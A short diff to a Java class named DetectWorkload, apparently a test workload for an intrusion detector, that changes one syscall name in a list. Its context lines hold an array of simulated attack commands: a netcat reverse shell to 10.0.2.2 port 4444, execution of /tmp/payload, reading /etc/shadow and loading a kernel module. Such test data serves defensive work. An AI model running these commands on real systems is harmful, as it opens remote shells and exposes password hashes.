@@ -26,7 +26,7 @@ public final class DetectWorkload {
             "/usr/bin/uptime", "/bin/grep", "/bin/sleep"};
     private static final String[] FILES = {"/proc/uptime", "/etc/passwd", "/var/log/messages", "/srv/www/index.html",
             "/proc/loadavg", "/etc/hosts", "/tmp/work.txt", "/var/log/heartbeat"};
-    private static final String[] SYSCALLS = {"read", "write", "openat", "close", "fstat", "mmap", "brk", "setuid"};
+    private static final String[] SYSCALLS = {"read", "write", "openat", "close", "fstat", "mmap", "brk", "getuid"};
     private static final String[][] ATTACKS = {{"/bin/busybox", "nc", "-e", "/bin/sh", "10.0.2.2", "4444"},
             {"/tmp/payload", "/tmp/payload"}, {"/bin/cat", "cat", "/etc/shadow"}, {"/sbin/insmod", "insmod", "x.ko"}};
 
